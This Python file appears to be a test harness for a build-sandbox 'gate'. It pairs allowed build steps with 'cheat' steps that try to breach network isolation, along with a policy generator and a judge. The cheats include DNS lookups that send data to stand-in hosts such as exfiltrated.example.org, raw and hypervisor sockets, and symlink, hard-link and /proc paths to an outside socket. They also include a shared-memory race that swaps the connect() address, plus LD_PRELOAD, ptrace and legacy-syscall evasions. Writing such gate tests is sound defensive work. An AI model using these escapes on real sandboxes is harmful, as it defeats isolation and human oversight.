"""Steps for the gate, honest and cheating, and the party outside that the cheats talk to.

    gate_steps.py NAME                       does what the step of that name does
    gate_steps.py --serve FOLDER             serves sockets in FOLDER and at mirror.example.org, until it is ended
    gate_steps.py --policy KIND PORT         prints a policy with the steps of a kind: honest, cheat, known
    gate_steps.py --judge KIND REPORT [BUT [untold]]  says which step did not get the verdict that its kind wants, but for those of the list BUT;
                                             cheats are to be told by name, unless it is said otherwise

No address but loopback, and those that are for documentation, is named here: the world is the test's own.
"""
import ctypes
import json
import mmap
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

NOBODY, NOBODY6, MIRROR = "192.0.2.1", "2001:db8::1", "192.0.2.80"
HERE = pathlib.Path(__file__).resolve().parent
OUTSIDE, DATAGRAMS = str(HERE / "outside.sock"), str(HERE / "outside.dgram")
TMP = SHARED = ""  # a folder of the step's own in /tmp, and a name in /dev/shm
libc = ctypes.CDLL(None, use_errno=True)
STEPS = {}  # name: (kind, function, what the policy allows, words of the breach that is wanted)


def honest(allow=""):
    return lambda step: STEPS.setdefault(step.__name__, ("honest", step, allow, ""))


def cheat(words, allow=""):
    return lambda step: STEPS.setdefault(step.__name__, ("cheat", step, allow, words))


def known(step):
    """What no gate sees: docs/reference/gate-policy.md says why."""
    return STEPS.setdefault(step.__name__, ("known", step, "", ""))


def attempt(act, *arguments):
    """Does it; being refused is none of the step's worries."""
    try:
        return act(*arguments)
    except OSError:
        return None


def unix(kind=socket.SOCK_STREAM):
    return socket.socket(socket.AF_UNIX, kind)


def shell(line):
    subprocess.run(["/bin/bash", "-c", line], check=True)


def talk_to_server(server, client, address):
    """Both ends are the step's own."""
    server.bind(address)
    server.listen()
    if os.fork() == 0:
        client.connect(address)
        client.sendall(b"hello")
        os._exit(0)
    connection, _ = server.accept()
    assert connection.recv(9) == b"hello"
    assert os.wait()[1] == 0


# --- honest ---

@honest()
def does_nothing(): pass

@honest()
def builds_at_once():
    folder = pathlib.Path(TMP, "build")
    folder.mkdir()
    (folder / "Makefile").write_text("all: a b c d\na b c d:\n\tsleep 0.1; echo $@ > $@\n")
    subprocess.run(["make", "-s", "-j4", "-C", folder], check=True)
    assert (folder / "d").read_text() == "d\n"

@honest()
def writes_in_the_workspace():
    folder = HERE / "dist"
    folder.mkdir(exist_ok=True)
    (folder / "made").write_text("made\n")

@honest()
def reads_the_history(): shell("git -c safe.directory='*' log --oneline | grep -q first")

@honest()
def looks_users_up():
    import pwd
    assert pwd.getpwuid(os.getuid()).pw_name

@honest()
def uses_a_socket_in_tmp(): talk_to_server(unix(), unix(), TMP + "/own.sock")

@honest()
def uses_a_socket_by_a_short_name():
    os.chdir(TMP)
    talk_to_server(unix(), unix(), "short.sock")

@honest()
def uses_a_socket_in_shared_memory(): talk_to_server(unix(), unix(), SHARED)

@honest()
def uses_an_abstract_socket(): talk_to_server(unix(), unix(), "\0own")

@honest()
def sends_datagrams_in_tmp():
    server = unix(socket.SOCK_DGRAM)
    server.bind(TMP + "/log")
    unix(socket.SOCK_DGRAM).sendto(b"x", TMP + "/log")
    assert server.recv(9) == b"x"

@honest()
def passes_descriptors():
    one, other = socket.socketpair()
    if os.fork() == 0:
        socket.send_fds(one, [b"x"], [os.open("/etc/passwd", os.O_RDONLY)])
        os._exit(0)
    _, received, _, _ = socket.recv_fds(other, 1, 1)
    assert os.read(received[0], 4) == b"root"

@honest()
def uses_a_pipe_with_a_name():
    os.mkfifo(TMP + "/pipe")
    shell(f'cd {TMP}; echo through >pipe & [ "$(cat pipe)" = through ]; wait')

@honest()
def works_in_several_processes():
    import multiprocessing
    with multiprocessing.Manager() as manager:
        numbers = manager.list()
        with multiprocessing.Pool(2) as pool:
            numbers.extend(pool.map(abs, [-1, -2]))
        assert list(numbers) == [1, 2]

@honest()
def has_a_daemon_that_ends():
    """As build tools do: it serves in the background until it is told to stop."""
    daemon = "import socket; s = socket.socket(socket.AF_UNIX); s.bind('daemon'); s.listen(); s.accept()"
    process = subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True, cwd=TMP)
    client = unix()
    while client.connect_ex(TMP + "/daemon") != 0:
        time.sleep(0.01)
    assert process.wait() == 0

@honest()
def waits_for_what_it_starts(): shell("sleep 0.2 & sleep 0.1 & wait")

@honest()
def asks_for_sockets_that_few_have():
    for path in ("/run/nscd/socket", TMP + "/none", str(HERE / "none.sock")):
        assert unix().connect_ex(path) != 0

@honest()
def finds_a_socket_that_nobody_serves(): assert unix().connect_ex(str(HERE / "stale.sock")) != 0

@honest("loopback: true")
def serves_itself_on_loopback():
    server = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(server.getsockname())
    client.sendall(b"x")
    assert server.accept()[0].recv(1) == b"x"

@honest("loopback: true")
def sends_datagrams_on_loopback():
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.sendto(b"x", server.getsockname())
    assert server.recv(1) == b"x"

@honest("exceptions: [{listen: 8080, owner: o, reason: r, expires: 2999-01-01}]")
def serves_on_a_port_by_name():
    server = socket.create_server(("127.0.0.1", 8080))
    socket.create_connection(("127.0.0.1", 8080))
    server.accept()

@honest("exceptions: [{listen: 5353, owner: o, reason: r, expires: 2999-01-01}]")
def hears_datagrams_on_a_port_by_name():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(("127.0.0.1", 5353))

@honest("exceptions: [{host: 'mirror.example.org:PORT', owner: o, reason: r, expires: 2999-01-01}]")
def reaches_an_allowed_host():
    port = int((HERE / "port").read_text())
    with socket.create_connection(("mirror.example.org", port)) as connection:
        assert connection.recv(9) == b"outside"

@honest("exceptions: [{unix_socket: outside.sock, owner: o, reason: r, expires: 2999-01-01}]")
def reaches_an_allowed_socket():
    client = unix()
    client.connect(OUTSIDE)
    assert client.recv(9) == b"outside"

@honest("exceptions: [{unix_socket: own.sock, owner: o, reason: r, expires: 2999-01-01}]")
def serves_an_allowed_socket(): talk_to_server(unix(), unix(), str(HERE / "own.sock"))


# --- cheats: the network ---

@cheat("192.0.2.1:80/tcp")
def connects(): socket.socket().connect_ex((NOBODY, 80))

@cheat("[2001:db8::1]:80/tcp")
def connects_by_ipv6(): socket.socket(socket.AF_INET6).connect_ex((NOBODY6, 80))

@cheat("192.0.2.1:9/udp")
def sends_a_datagram(): attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"x", (NOBODY, 9))

@cheat("192.0.2.1:9/udp")
def sends_a_message(): attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg, [b"x"], [], 0, (NOBODY, 9))

@cheat("[2001:db8::1]:9/udp")
def sends_a_datagram_by_ipv6(): attempt(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto, b"x", (NOBODY6, 9))

@cheat("inet/raw")
def makes_a_raw_socket(): attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)

@cheat("packet")
def makes_a_packet_socket(): attempt(socket.socket, 17, socket.SOCK_RAW, 0)

@cheat("vsock")
def makes_a_socket_to_the_hypervisor(): attempt(socket.socket, 40, socket.SOCK_STREAM, 0)

@cheat("io_uring")
def makes_a_ring(): libc.syscall(425, 8, ctypes.create_string_buffer(120))

@cheat("exfiltrated.example.org")
def looks_a_name_up(): attempt(socket.getaddrinfo, "exfiltrated.example.org", 443)

@cheat("secret.example")
def asks_a_name_server():
    question = b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1"
    attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, question, ("192.0.2.53", 53))

@cheat("192.0.2.53:53/tcp")
def asks_a_name_server_by_tcp(): socket.socket().connect_ex(("192.0.2.53", 53))

@cheat("exfiltrated.example.org", "exceptions: [{host: 'mirror.example.org:PORT', owner: o, reason: r, expires: 2999-01-01}]")
def looks_a_name_up_beside_an_allowed_host(): attempt(socket.getaddrinfo, "exfiltrated.example.org", 443)

@cheat("192.0.2.1:443", "exceptions: [{host: 'mirror.example.org:443', owner: o, reason: r, expires: 2999-01-01}]")
def uses_an_allowed_port_elsewhere(): socket.socket().connect_ex((NOBODY, 443))

@cheat(":PORT1/tcp", "exceptions: [{host: 'mirror.example.org:PORT', owner: o, reason: r, expires: 2999-01-01}]")
def uses_another_port_of_an_allowed_host():
    attempt(socket.create_connection, ("mirror.example.org", int((HERE / "port").read_text()) + 1))

@cheat("8321")
def listens(): attempt(socket.create_server, ("127.0.0.1", 8321))

@cheat("8321")
def listens_everywhere_by_ipv6():
    server = socket.socket(socket.AF_INET6)
    attempt(server.bind, ("::", 8321))
    attempt(server.listen)

@cheat("5354/udp", "exceptions: [{listen: 5353, owner: o, reason: r, expires: 2999-01-01}]")
def hears_datagrams_on_a_port(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(("0.0.0.0", 5354))


# --- cheats: Unix sockets ---

@cheat("outside.sock")
def connects_to_a_socket_outside(): unix().connect_ex(OUTSIDE)

@cheat("outside.sock")
def connects_to_it_by_a_short_name():
    os.chdir(HERE)
    unix().connect_ex("./outside.sock")

@cheat("outside.sock")
def connects_to_it_by_a_link():
    os.symlink(OUTSIDE, TMP + "/link")
    unix().connect_ex(TMP + "/link")

@cheat("hard.sock")
def connects_to_it_by_another_name():
    attempt(os.link, OUTSIDE, HERE / "hard.sock")
    unix().connect_ex(str(HERE / "hard.sock"))

@cheat("outside.sock")
def connects_to_it_through_proc():
    folder = os.open(HERE, os.O_RDONLY)
    unix().connect_ex(f"/proc/self/fd/{folder}/outside.sock")

@cheat("outside.dgram")
def sends_to_a_socket_outside(): attempt(unix(socket.SOCK_DGRAM).sendto, b"secret", DATAGRAMS)

@cheat("outside.dgram")
def sends_a_message_to_a_socket_outside():
    attempt(unix(socket.SOCK_DGRAM).sendmsg, [b"secret"], [], 0, DATAGRAMS)

@cheat("outside.dgram")
def sends_to_it_through_proc():
    folder = os.open(HERE, os.O_RDONLY)
    attempt(unix(socket.SOCK_DGRAM).sendto, b"secret", f"/proc/thread-self/fd/{folder}/outside.dgram")

@cheat("in.sock")
def serves_a_socket_outside():
    server = unix()
    server.bind(str(HERE / "in.sock"))
    server.listen()

@cheat("in.dgram")
def hears_datagrams_from_outside(): unix(socket.SOCK_DGRAM).bind(str(HERE / "in.dgram"))

@cheat("outside.sock", "exceptions: [{unix_socket: other.sock, owner: o, reason: r, expires: 2999-01-01}]")
def leads_an_allowed_name_elsewhere():
    os.symlink(OUTSIDE, HERE / "other.sock")
    unix().connect_ex(str(HERE / "other.sock"))

@cheat("outside.sock")
def changes_the_name_while_it_is_read():
    """Another process writes two names to where the address of connect() lies, by turns."""
    own = unix()
    own.bind(TMP + "/own")
    own.listen(64)
    shared = mmap.mmap(-1, 4096)
    def address(path): return (1).to_bytes(2, "little") + path.encode().ljust(108, b"\0")
    names = [address(TMP + "/own"), address(OUTSIDE)]
    assert len(names[1]) == 110
    shared[:110] = names[0]
    child = os.fork()
    if child == 0:
        end = time.monotonic() + 5
        while time.monotonic() < end:
            shared[:110] = names[1]
            shared[:110] = names[0]
        os._exit(0)
    place = ctypes.addressof(ctypes.c_char.from_buffer(shared))
    threading.Thread(target=lambda: [own.accept() for _ in iter(int, 1)], daemon=True).start()
    for _ in range(1000):
        client = unix()
        if libc.connect(client.fileno(), ctypes.c_void_p(place), 110) == 0 and client.getpeername() != TMP + "/own":
            print("reached")
            break
    os.kill(child, signal.SIGKILL)
    os.wait()


# --- cheats: other ways to do it ---

CONNECT = f"import socket; socket.socket().connect_ex(({NOBODY!r}, 80))"

@cheat("192.0.2.1:80/tcp")
def connects_without_an_environment(): subprocess.run(["/usr/bin/env", "-i", sys.executable, "-c", CONNECT], check=True)

@cheat("192.0.2.1:80/tcp")
def connects_by_a_static_program(): subprocess.run([HERE / "raw"], check=True)

@cheat("192.0.2.1:80/tcp")
def connects_by_a_preloaded_library(): subprocess.run(["/bin/true"], env={"LD_PRELOAD": str(HERE / "preload.so")}, check=True)

@cheat("192.0.2.1:80/tcp")
def connects_in_the_background(): shell(f'"{sys.executable}" -c "{CONNECT}" & wait')

@cheat("192.0.2.1:80/tcp")
def connects_in_a_session_of_its_own(): subprocess.run(["setsid", "--wait", sys.executable, "-c", CONNECT], check=True)

@cheat("192.0.2.1:80/tcp")
def connects_while_it_is_traced():
    child = os.fork()
    if child == 0:
        libc.ptrace(0, 0, 0, 0)
        socket.socket().connect_ex((NOBODY, 80))
        os._exit(0)
    os.waitpid(child, 0)

@cheat("i386")
def calls_by_another_table(): subprocess.run([HERE / "int80"], check=True)

@cheat("left processes running")
def leaves_a_process(): subprocess.Popen(["sleep", "30"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

@cheat("left processes running")
def leaves_a_daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 3)
            time.sleep(30)
        os._exit(0)
    os.wait()

@cheat("did not end within", "TIMEOUT")
def goes_on_for_ever():
    shutil.rmtree(TMP)
    time.sleep(1000)


# --- known: not seen, or nothing that the network tells ---

@known
def talks_by_files_in_the_workspace():
    """The workspace is changed in place: whoever works there outside sees it at once, and writes back."""
    (HERE / "message").write_text("to outside\n")

@known
def talks_by_a_pipe_in_the_workspace():
    attempt(os.mkfifo, HERE / "pipe")
    os.close(os.open(HERE / "pipe", os.O_RDWR | os.O_NONBLOCK))

@known
def changes_what_another_step_made(): (HERE / "artifact").write_text("changed\n")

@known
def changes_a_tracked_file(): (HERE / "tracked").write_text("changed\n")

@known
def asks_the_kernel_about_its_own_network(): attempt(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0)

@known
def asks_for_a_service_manager():
    """Nothing is inherited, whatever the environment says."""
    os.environ.update(LISTEN_FDS="1", LISTEN_PID=str(os.getpid()))
    assert attempt(os.fstat, 3) is None


def policy(kind, port):
    print('schema_version: "2"\nhermetic_steps:')
    for name, (its_kind, _, allow, _) in STEPS.items():
        if its_kind != kind:
            continue
        print(f"  - id: {name}\n    command: [/usr/bin/python3, gate_steps.py, {name}]")
        if allow == "TIMEOUT":
            print("    timeout: 1s")
        elif allow:
            print(f"    allow: {{{allow.replace('PORT', port)}}}")


def judge(kind, file, but="", names="told"):
    steps = {step["id"]: step for step in json.loads(pathlib.Path(file).read_text())["steps"]}
    port = int((HERE / "port").read_text())
    wrong = []
    for name, (its_kind, _, _, words) in STEPS.items():
        if its_kind != kind or name in but.split():
            continue
        step = steps.get(name, {"verdict": "none", "reason": "it was not run"})
        told = " ".join(breach["message"] for breach in step.get("breaches", []))
        wanted = words.replace("PORT1", str(port + 1))
        good = step["verdict"] == "pass" if kind != "cheat" else step["verdict"] == "fail" and (names != "told" or wanted in told)
        if not good:
            wrong.append(f"{name}: {step['verdict']}, {step.get('reason', '')}; {told}")
    print("\n".join(wrong))
    print(f"{kind}: {len(steps) - len(wrong)} of {len(steps)} as they should be")
    sys.exit(1 if wrong else 0)


def serve(folder):
    folder = pathlib.Path(folder)
    for old in [*folder.glob("*.sock"), *folder.glob("*.dgram")]:
        old.unlink()
    stream, datagrams, stale = unix(), unix(socket.SOCK_DGRAM), unix()
    stream.bind(str(folder / "outside.sock"))
    stream.listen(64)
    datagrams.bind(str(folder / "outside.dgram"))
    stale.bind(str(folder / "stale.sock"))
    stale.close()
    for name in ("outside.sock", "outside.dgram", "stale.sock"):
        (folder / name).chmod(0o777)
    network = socket.create_server((MIRROR, 0))
    (folder / "heard").write_text("")
    def answer(server):
        while True:
            connection, _ = server.accept()
            attempt(connection.sendall, b"outside")
            connection.close()
    def hear():
        while True:
            (folder / "heard").write_text(datagrams.recv(99).decode())
    for work in (lambda: answer(stream), lambda: answer(network), hear):
        threading.Thread(target=work, daemon=True).start()
    (folder / "port.new").write_text(str(network.getsockname()[1]))
    (folder / "port.new").rename(folder / "port")
    signal.pause()


if __name__ == "__main__":
    acts = {"--serve": serve, "--policy": policy, "--judge": judge}
    if sys.argv[1] in acts:
        acts[sys.argv[1]](*sys.argv[2:])
    else:
        TMP = tempfile.mkdtemp(dir="/tmp", prefix="hermetic-step-")
        SHARED = "/dev/shm/" + pathlib.Path(TMP).name
        try:
            STEPS[sys.argv[1]][1]()
        finally:
            shutil.rmtree(TMP, ignore_errors=True)
            pathlib.Path(SHARED).unlink(missing_ok=True)
